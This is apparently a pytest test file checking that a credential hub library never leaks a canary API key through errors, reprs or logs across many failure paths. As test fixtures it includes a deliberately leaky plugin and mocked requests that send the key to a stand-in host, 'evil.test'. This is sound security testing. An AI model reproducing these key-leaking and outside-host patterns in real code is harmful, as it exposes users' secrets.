"""A canary key pushed through every error path must never come back out."""

from __future__ import annotations

import asyncio
import logging
from collections.abc import Callable
from typing import Any

import httpx
import pytest

from hub_core import (
    Hub,
    HubError,
    InvalidCredentials,
    Policy,
    ProviderUnavailable,
    UnexpectedResponse,
    Verified,
)
from hub_core.hookspecs import Flow

CANARY = "hubcanary-7f3a9c-SECRET"


def leaky_flow(kind: str) -> Callable[[Any], Flow]:
    """A careless plugin that puts the key everywhere it can."""

    def flow(credentials: Any) -> Flow:
        key = credentials["api_key"]
        if kind == "before-request":
            raise InvalidCredentials(f"key {key} looks wrong", field="api_key")
        query = f"?key={key}" if kind == "in-url" else ""
        response = yield httpx.Request(
            "GET", f"https://api.acme.test/check{query}", headers={"Authorization": key}
        )
        if kind == "key-error":
            raise KeyError(key)
        if kind == "value-error":
            raise ValueError(f"cannot parse {key!r}", key)
        if kind == "unexpected":
            raise UnexpectedResponse(f"odd answer for {key}")
        if kind == "unavailable":
            raise ProviderUnavailable(f"{key} down")
        if kind == "json":
            response.json()
        return Verified("id", "label")

    return flow


KINDS = [
    "before-request",
    "in-url",
    "key-error",
    "value-error",
    "unexpected",
    "unavailable",
    "json",
    "redirect-away",
    "forbidden-host",
    "rate-limited",
    "transport",
]


EXPECTED = {
    "before-request": "InvalidCredentials",
    "in-url": "PluginError",
    "key-error": "PluginError",
    "value-error": "PluginError",
    "unexpected": "UnexpectedResponse",
    "unavailable": "ProviderUnavailable",
    "json": "UnexpectedResponse",
    "redirect-away": "UnexpectedResponse",
    "forbidden-host": "PluginError",
    "rate-limited": "RateLimited",
    "transport": "ProviderUnavailable",
}


def handler_for(kind: str) -> Callable[[httpx.Request], httpx.Response]:
    def handler(request: httpx.Request) -> httpx.Response:
        if kind == "redirect-away":
            return httpx.Response(302, headers={"location": f"https://evil.test/{CANARY}"})
        if kind == "rate-limited":
            return httpx.Response(429, headers={"retry-after": "99999"}, text=CANARY)
        if kind == "transport":
            raise httpx.ConnectError(f"failed {request.url}")
        if kind == "json":
            return httpx.Response(200, text=f"not json {CANARY}")
        return httpx.Response(200)

    return handler


def texts_of(error: BaseException) -> list[str]:
    out: list[str] = []
    seen: set[int] = set()
    current: BaseException | None = error
    while current is not None and id(current) not in seen:
        seen.add(id(current))
        out += [str(current), repr(current), *map(str, current.args)]
        out += [str(v) for v in getattr(current, "errors", {}).values()]
        current = current.__cause__ or current.__context__
    return out


@pytest.mark.parametrize("mode", ["sync", "async"])
@pytest.mark.parametrize("kind", KINDS)
def test_the_canary_never_appears_in_any_error_message_repr_or_log(
    kind: str, mode: str, caplog: pytest.LogCaptureFixture, acme_plugin: Any
) -> None:
    flow = leaky_flow(kind)
    if kind == "forbidden-host":

        def flow(credentials: Any) -> Flow:
            yield httpx.Request("GET", f"https://evil.test/?k={credentials['api_key']}")
            return Verified("a", "b")

    hub = Hub(
        plugins=[acme_plugin(flow)],
        load_entrypoints=False,
        policy=Policy(backoff=0, retries=1),
        transport=httpx.MockTransport(handler_for(kind)),
    )
    caplog.set_level(logging.DEBUG)
    values = {"api_key": CANARY}

    def run() -> object:
        if mode == "sync":
            return hub.verify("acme", values)
        return asyncio.run(hub.averify("acme", values))

    with pytest.raises(HubError) as caught:
        run()
    texts = texts_of(caught.value)
    assert all(CANARY not in text for text in texts), texts
    assert CANARY not in caplog.text
    assert type(caught.value).__name__ == EXPECTED[kind]


def test_the_canary_never_appears_in_field_errors_or_credentials(acme_plugin: Any) -> None:
    hub = Hub(plugins=[acme_plugin()], load_entrypoints=False)
    for bad in (CANARY + "\n\x00", CANARY * 20):
        with pytest.raises(HubError) as caught:
            hub.verify("acme", {"api_key": bad, "region": "mars"})
        assert all(CANARY not in text for text in texts_of(caught.value))
    credentials = hub.validate("acme", {"api_key": CANARY})
    assert CANARY not in repr(credentials)
    assert CANARY not in f"{credentials}"


@pytest.mark.anyio
async def test_the_canary_never_appears_in_check_many_results(acme_plugin: Any) -> None:
    hub = Hub(
        plugins=[acme_plugin(leaky_flow("key-error"))],
        load_entrypoints=False,
        transport=httpx.MockTransport(handler_for("ok")),
    )
    [result] = await hub.check_many([("acme", {"api_key": CANARY})])
    assert isinstance(result, HubError)
    assert all(CANARY not in text for text in texts_of(result))
